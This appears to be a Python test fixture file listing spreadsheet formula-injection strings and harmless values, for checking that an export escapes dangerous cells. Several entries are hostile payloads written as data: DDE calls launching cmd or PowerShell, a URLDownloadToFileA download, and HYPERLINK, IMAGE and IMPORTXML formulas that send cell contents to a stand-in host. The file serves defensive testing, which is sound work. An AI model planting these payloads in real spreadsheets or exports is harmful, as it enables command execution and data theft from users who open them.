"""Texts that a spreadsheet would run, or that look as if it did, and some that it would not."""

from __future__ import annotations

BY_FIRST_CHARACTER = [
    *("=1+1", "+1+cmd|' /C calc'!A0", "-1+1", "@SUM(A1)", "|calc", "\t=1", "\r=1", "\n=1"),
    *("＝1+1", "＋1", "－1", "＠SUM(A1)", "--1", "+-1", "-", "=", "=+-@", "+1e", "=1;=2", "=1\r\n=2", "\t-5", "\r\n@x"),
    *("+49 30 123", "-1,234.50", "-- c", "-1e5x", "+1.2.3", "-٥", "+１", "-0x1F", "-Infinity", "+NaN"),
]
BEHIND_WHAT_IS_DROPPED = [
    *(" =1", "\u00a0=1", "\ufeff=1", "\u200b=1", "'=1", '"=1"', ' "=1"', "\u00a0\ufeff=1", "''=1", '"" +1', "'\"@x"),
    *("   -1+1", "\ufeff\ufeff＝1", "' \t=1"),
]
CALLS = [
    *("=cmd|'/c calc'!A1", '=DDE("cmd";"/c")', '=DDE("cmd";"/C calc";"!A0")', "+cmd|'/C powershell IEX(x)'!A0"),
    *("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2", "=rundll32|'URL.dll,OpenURL calc.exe'!A"),
    *("=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''", '=HYPERLINK("http://x")'),
    *('=HYPERLINK("http://x/?leak="&A1&A2,"click")', '=IMPORTXML("http://x","//a")', '=WEBSERVICE("http://x")'),
    *('=IMPORTXML(CONCAT("http://x/?v=",A2:E9),"//a")', '=IMPORTDATA("http://x")', '=IMAGE("http://x?"&A1)'),
    *('=FILTERXML(WEBSERVICE("http://x"),"//a")', "='file:///etc/passwd'#$passwd.A1", '="a"&"b"', "=A1:B2"),
    *('=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://x")', '=REGISTER.ID("a","b")', "=_xlfn.CONCAT(A1)"),
    "=SUM(１，２)",
]
FORMULAS = [*BY_FIRST_CHARACTER, *BEHIND_WHAT_IS_DROPPED, *CALLS]
"""Each is guarded by a `'` in every cell of an export that a spreadsheet opens, and comes back as it was."""
HARMLESS = [
    "-5",
    "+1",
    "-5.25",
    "1e-7",
    "-1e-7",
    "a=b",
    "",
    "x",
    "a,b",
    'say "hi"',
    "two\nlines",
    "ünïcode ✓",
    "007",
    "%0A=1",
]
